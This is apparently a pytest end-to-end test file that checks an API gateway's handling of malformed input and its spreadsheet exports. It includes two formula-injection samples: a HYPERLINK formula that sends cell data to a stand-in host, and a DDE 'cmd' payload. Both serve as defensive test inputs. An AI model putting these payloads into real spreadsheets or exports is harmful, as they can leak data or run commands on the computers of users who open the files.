"""Bad input at the gateway: refused with the JSON error format naming the field, never a
500, never stored; oversized and deeply nested bodies refused; unknown routes and methods
answered in the error format; exports keep formula-like text as text."""
import io
import json
import socket
from urllib.parse import urlparse

import pytest
import requests
from openpyxl import load_workbook

from contracts.base import MAX_ID
from tests.e2e.conftest import wait_for
from tests.e2e.test_deposit_flow import make_office, make_project
from tests.e2e.test_gateway_edges import error_of

pytestmark = pytest.mark.e2e

LINK = '=HYPERLINK("http://x.example/?q="&A2,"查看")'
COMMAND = "=cmd|' /C calc'!A0"


def raw_json(client, method, path, text, **headers):
    """`text` sent as the body as it is (json= would escape what the test wants to send)."""
    return client.http.request(method, client.base_url + path, data=text.encode("utf-8",
                               "surrogatepass"), timeout=30,
                               headers={"Content-Type": "application/json", **headers})


def test_a_nul_in_an_address_is_refused_and_the_visit_register_still_exports(suite, admin):
    office, _ = make_office(admin)
    body = json.dumps({"office_id": office["id"], "name": "张三", "mobile": "13811110001",
                       "address": "西工区\u0000中州路"})
    error = error_of(raw_json(admin, "POST", "/api/v1/visits", body), 400)
    assert list(error["fields"]) == ["address"] and "NUL" in error["fields"]["address"][0]
    good = admin.post("/api/v1/visits", {"office_id": office["id"], "name": "张三",
                                         "mobile": "13811110001", "address": "西工区中州路"})
    assert good.status_code == 201, good.text
    export = admin.get(f"/api/v1/offices/{office['id']}/exports/visit-register")
    assert export.status_code == 200, export.text
    rows = list(load_workbook(io.BytesIO(export.content)).active.iter_rows(values_only=True))
    assert dict(zip(rows[0], rows[1]))["地址"] == "西工区中州路"


def test_a_surrogate_in_residence_area_is_refused_and_the_mobile_stays_registerable(suite, admin):
    office, _ = make_office(admin)
    body = ('{"office_id": %d, "name": "李四", "mobile": "13811110002", '
            '"residence_area": "洛龙\\ud800区"}' % office["id"])
    error = error_of(raw_json(admin, "POST", "/api/v1/visits", body), 400)
    assert list(error["fields"]) == ["residence_area"]
    assert "surrogate" in error["fields"]["residence_area"][0]
    error = error_of(raw_json(admin, "POST", "/api/v1/calls", body), 400)
    assert list(error["fields"]) == ["residence_area"]
    good = admin.post("/api/v1/visits", {"office_id": office["id"], "name": "李四",
                                         "mobile": "13811110002", "residence_area": "洛龙区"})
    assert good.status_code == 201, good.text
    customer = admin.get(f"/api/v1/customers/{good.json()['customer']['id']}")
    assert customer.status_code == 200, customer.text
    assert "洛龙区" in customer.text


def test_control_characters_in_query_strings_and_uploaded_cells_are_refused(suite, admin):
    office, _ = make_office(admin)
    error = error_of(admin.get(f"/api/v1/offices/{office['id']}/call-center/ranking",
                               params={"month": "2026-01\x00"}), 400)
    assert list(error["fields"]) == ["month"]
    upload = admin.http.post(f"{suite.base_url}/api/v1/call-lists",
                             data="姓名,手机\n王\x01五,13811110003\n".encode(),
                             params={"source": "purchased", "file_name": "list.csv"},
                             headers={"Content-Type": "text/csv"}, timeout=60)
    # the file is read as a job: the job fails naming the cell, and nothing is imported
    assert upload.status_code == 202, upload.text
    job = wait_for(lambda: (lambda j: j if j["status"] in ("done", "failed") else None)(
        admin.get(upload.headers["Location"]).json()), timeout=60)
    assert job["status"] == "failed", job
    assert "line 2, column 1" in json.dumps(job, ensure_ascii=False), job
    error = error_of(admin.http.post(f"{suite.base_url}/api/v1/call-lists",
                                     data=b"name,mobile\n", headers={"Content-Type": "text/csv"},
                                     params={"source": "purchased", "file_name": "a\x1b.csv"}),
                     400)
    assert list(error["fields"]) == ["file_name"]


def test_amounts_and_ids_the_database_cannot_hold_are_400_naming_the_field(suite, admin):
    _, (unit_id, _) = make_project(admin)
    base = {"unit_id": unit_id, "customer_id": 1, "consultant_id": 1}
    for amount in ("1e30", "NaN", "Infinity", "-Infinity", "1000000000000.00"):
        error = error_of(admin.post("/api/v1/deposits", {**base, "amount": amount}), 400)
        assert list(error["fields"]) == ["amount"], amount
    for number in ("NaN", "Infinity", "1e30"):
        body = ('{"unit_id": %d, "customer_id": 1, "consultant_id": 1, "amount": %s}'
                % (unit_id, number))
        error = error_of(raw_json(admin, "POST", "/api/v1/deposits", body), 400)
        assert "amount" in error["fields"]
    error = error_of(admin.post("/api/v1/deposits", {**base, "unit_id": MAX_ID + 1,
                                                     "amount": "1.00"}), 400)
    assert list(error["fields"]) == ["unit_id"]
    error = error_of(admin.post("/api/v1/holds", {"unit_id": 10**30, "customer_id": 1}), 400)
    assert "unit_id" in error["fields"]
    for path, name in ((f"/api/v1/units/{MAX_ID + 1}", "unit_id"),
                       (f"/api/v1/deposits/{10**25}", "deposit_id"),
                       (f"/api/v1/projects/{10**20}/board", "project_id")):
        error = error_of(admin.get(path), 400)
        assert list(error["fields"]) == [name], path
    error_of(admin.get(f"/api/v1/units/{MAX_ID}"), 404)


def test_a_body_over_the_limit_is_413_naming_the_limit(suite, admin):
    big = json.dumps({"name": "x" * (11 * 1024 * 1024)})
    error = error_of(raw_json(admin, "POST", "/api/v1/offices", big), 413)
    assert "10 MB" in error["message"] and "10485760" in error["message"]


def test_a_130_mb_body_is_refused_before_it_is_read(suite, admin):
    """Only the headers are sent: the 413 comes back without the gateway waiting for the
    130 MB it was promised."""
    url = urlparse(suite.base_url)
    token = admin.http.headers["Authorization"]
    with socket.create_connection((url.hostname, url.port), timeout=20) as connection:
        connection.sendall((f"POST /api/v1/offices HTTP/1.1\r\nHost: {url.netloc}\r\n"
                            f"Authorization: {token}\r\nContent-Type: application/json\r\n"
                            f"Content-Length: {130 * 1024 * 1024}\r\n\r\n{{\"code\": ").encode())
        answer = b""
        while b"\r\n\r\n" not in answer or not answer.rstrip().endswith(b"}"):
            chunk = connection.recv(65536)
            if not chunk:
                break
            answer += chunk
    head, _, body = answer.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 413"), answer[:300]
    error = json.loads(body.decode())["error"]
    assert error["code"] == "body_too_large" and "bytes" in error["message"]


def test_deeply_nested_json_is_400_not_a_recursion_error(suite, admin):
    for depth in (100, 100_000):
        body = '{"name": ' + "[" * depth + "]" * depth + "}"
        error = error_of(raw_json(admin, "POST", "/api/v1/offices", body), 400)
        assert "_body" in error["fields"] and "levels" in error["message"]


def test_unknown_routes_and_methods_answer_the_json_error_format(suite, admin):
    for method in ("GET", "POST", "PUT", "DELETE", "PATCH"):
        response = admin.http.request(method, f"{suite.base_url}/api/v1/no/such/route")
        assert response.headers["Content-Type"].startswith("application/json")
        assert error_of(response, 404)["code"] == "not_found"
    response = admin.http.delete(f"{suite.base_url}/api/v1/deposits")
    error = error_of(response, 405)
    assert error["code"] == "method_not_allowed"
    assert "POST" in response.headers["Allow"]
    response = admin.http.put(f"{suite.base_url}/api/v1/units/1")
    assert error_of(response, 405)["code"] == "method_not_allowed"
    assert {"GET"} <= {m.strip() for m in response.headers["Allow"].split(",")}
    error_of(requests.get(f"{suite.base_url}/api/v1/units/not-a-number"), 404)


def test_formula_like_names_stay_text_in_the_visit_register_and_board(suite, admin):
    office, _ = make_office(admin, consultants=(COMMAND,))
    for n, name in enumerate((LINK, COMMAND)):
        visit = admin.post("/api/v1/visits", {"office_id": office["id"], "name": name,
                                              "mobile": f"1381111001{n}", "notes": LINK})
        assert visit.status_code == 201, visit.text
    export = admin.get(f"/api/v1/offices/{office['id']}/exports/visit-register")
    cells = [cell for row in load_workbook(io.BytesIO(export.content)).active.iter_rows()
             for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {cell.value for cell in cells if cell.data_type == "s"} >= {LINK, COMMAND}

    project, _ = make_project(admin)
    units = admin.post(f"/api/v1/projects/{project['id']}/units", {
        "building": COMMAND, "number": "999", "floor": 9, "building_area": "89.50"})
    assert units.status_code == 201, units.text
    board = admin.get(f"/api/v1/projects/{project['id']}/board.xlsx")
    assert board.status_code == 200, board.text
    cells = [cell for sheet in load_workbook(io.BytesIO(board.content)).worksheets
             for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert COMMAND in {cell.value for cell in cells if cell.data_type == "s"}
